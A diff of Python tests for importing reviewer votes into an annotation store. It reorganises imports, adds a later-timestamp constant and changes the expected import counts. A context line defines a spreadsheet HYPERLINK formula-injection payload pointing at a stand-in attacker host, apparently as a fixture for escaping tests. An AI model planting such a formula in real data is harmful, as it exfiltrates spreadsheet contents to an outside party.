@@ -15,7 +15,8 @@ from hypothesis import strategies as st
 
 from annotation.errors import AnnotationError
 from annotation.events import CHOICES, MAX_NOTE, Remark, Ruling, Vote, clean_text
-from annotation.judgements import Imported, Judgement, Refused, import_judgements, judgements
+from annotation.importing import Imported, import_judgements
+from annotation.judgements import Judgement, Refused, judgements
 from annotation.reading import verdicts
 from annotation.store import Store, open_store
 from annotation.tables import VOTES, decisions_table, escaped, unescaped, verdicts_table, votes_table, write_table
@@ -35,6 +36,7 @@ from tests.annotation.vote_builders import START, event, ordinary
 
 HEADER = "entry_id,reviewer,choice,shown_at,submitted_at"
 TIMES = "2026-11-26T12:00:00+00:00,2026-11-26T12:00:09+00:00"
+LATER = "2026-11-26T12:01:00+00:00,2026-11-26T12:01:09+00:00"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"prize")'
 
 
@@ -228,7 +230,7 @@ def test_imported_votes_are_their_reviewers_events_with_the_times_of_the_file(st
     round_, (ann,), entry = open_round(store), invite(store, "Ann"), entries(1)[0].id
     path = tmp_path / "votes.csv"
     path.write_text(f"{HEADER},note\n{entry},ann,negative,{TIMES},why\n", encoding="utf-8")
-    assert import_judgements(store, round_.id, read_votes(path)) == Imported(1, ())
+    assert import_judgements(store, round_.id, read_votes(path)) == Imported(1, 0, ())
     (stored,) = store.events(round_.id)
     assert (stored.person_id, stored.payload, stored.shown_at) == (ann.id, Vote("negative", "why"), SHOWN)
     assert stored.submitted_at == SHOWN + timedelta(seconds=9)
@@ -242,7 +244,7 @@ def test_a_file_may_be_imported_again_and_into_the_round_it_came_from(store: Sto
     path = tmp_path / "votes.parquet"
     write_table(votes_table(judgements(before, store.rounds.entries(round_.id), names)), path)
     for _ in range(2):
-        assert import_judgements(store, round_.id, read_votes(path)) == Imported(1, ())
+        assert import_judgements(store, round_.id, read_votes(path)) == Imported(0, 1, ())
     assert store.events(round_.id) == before
 
 
@@ -264,7 +266,7 @@ def test_an_import_refuses_what_does_not_belong_and_takes_the_rest(store: Store,
                 f"{entry},Bob,positive,{TIMES},1,v0,",
                 f"{entry},Vera,positive,{TIMES},1,v0,",
                 f"{entry},Ann,positive,{late},1,v0,",
-                f'{entry},Ann,negative,{TIMES},1,v0,"[""v9:0""]"',
+                f'{entry},Ann,negative,{LATER},1,v0,"[""v9:0""]"',
             ]
         ),
         encoding="utf-8",
